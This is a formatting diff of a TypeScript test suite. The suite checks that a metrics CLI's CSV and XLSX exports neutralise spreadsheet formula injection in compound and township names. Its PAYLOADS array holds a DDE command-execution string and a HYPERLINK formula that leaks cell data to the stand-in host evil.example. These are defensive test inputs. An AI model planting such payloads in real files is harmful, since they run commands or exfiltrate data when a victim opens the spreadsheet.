@@ -17,7 +17,13 @@ import { FIXTURE_AS_OF } from '../../support/constants.ts';
 import { availableBackends, fixtureDataDir, openFixtureDatabase, type TestDatabase } from '../../support/databases.ts';
 
 /** Names an attacker with ledger access could give a compound. */
-const PAYLOADS = [`=cmd|' /C calc'!A0`, '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")', '+1+1', '-2+3', '@SUM(1+1)'];
+const PAYLOADS = [
+  `=cmd|' /C calc'!A0`,
+  '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
+  '+1+1',
+  '-2+3',
+  '@SUM(1+1)',
+];
 const TOWNSHIP_PAYLOAD = '=1+2';
 
 describe('a CSV cell', () => {
@@ -56,7 +62,9 @@ describe('a CSV cell', () => {
 
 /** Cells a spreadsheet would run as a formula: text beginning with = + - @ tab or CR that is not a plain number. */
 function formulaCells(csv: string): string[] {
-  return parseCsv(csv.replace(/^\uFEFF/, '')).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !Number.isFinite(Number(cell)));
+  return parseCsv(csv.replace(/^\uFEFF/, ''))
+    .flat()
+    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !Number.isFinite(Number(cell)));
 }
 
 /** Every payload appears as text with a leading single quote, and nothing would run as a formula. */
@@ -73,7 +81,11 @@ async function expectTextCells(base64: string, label: string): Promise<void> {
   expect(sheets.length, label).toBeGreaterThan(0);
   for (const name of sheets) expect(await zip.file(name)!.async('string'), `${label} ${name}`).not.toMatch(/<f[ >]/);
   const strings = (await zip.file('xl/sharedStrings.xml')!.async('string'))
-    .replaceAll('&quot;', '"').replaceAll('&apos;', "'").replaceAll('&amp;', '&').replaceAll('&lt;', '<').replaceAll('&gt;', '>');
+    .replaceAll('&quot;', '"')
+    .replaceAll('&apos;', "'")
+    .replaceAll('&amp;', '&')
+    .replaceAll('&lt;', '<')
+    .replaceAll('&gt;', '>');
   for (const payload of PAYLOADS) expect(strings, `${label}: ${payload}`).toContain(`<t>${payload}</t>`);
 }
 
@@ -133,11 +145,30 @@ describe.each(availableBackends())('formula-like names through every export (%s)
     const report = await runCli(['metrics', '--as-of', FIXTURE_AS_OF, '--format', 'csv'], env);
     expect(report.code, report.stderr).toBe(0);
     expectNeutralised(report.stdout, 'metrics csv', [TOWNSHIP_PAYLOAD]);
-    const deltas = parseCsv(report.stdout).slice(1).map((row) => row[12]!);
-    expect(deltas.some((d) => d.startsWith('-')), 'some indicator fell: a negative delta').toBe(true);
+    const deltas = parseCsv(report.stdout)
+      .slice(1)
+      .map((row) => row[12]!);
+    expect(
+      deltas.some((d) => d.startsWith('-')),
+      'some indicator fell: a negative delta',
+    ).toBe(true);
     for (const d of deltas) expect(d === '' || Number.isFinite(Number(d)), `delta ${d} is a number`).toBe(true);
 
-    const drill = await runCli(['metrics', 'drill', '--indicator', 'partyOrgCoverage', '--township', TEST_TOWNSHIP, '--as-of', FIXTURE_AS_OF, '--format', 'csv'], env);
+    const drill = await runCli(
+      [
+        'metrics',
+        'drill',
+        '--indicator',
+        'partyOrgCoverage',
+        '--township',
+        TEST_TOWNSHIP,
+        '--as-of',
+        FIXTURE_AS_OF,
+        '--format',
+        'csv',
+      ],
+      env,
+    );
     expect(drill.code, drill.stderr).toBe(0);
     expectNeutralised(drill.stdout, 'metrics drill csv', [...PAYLOADS, TOWNSHIP_PAYLOAD]);
   }, 180_000);
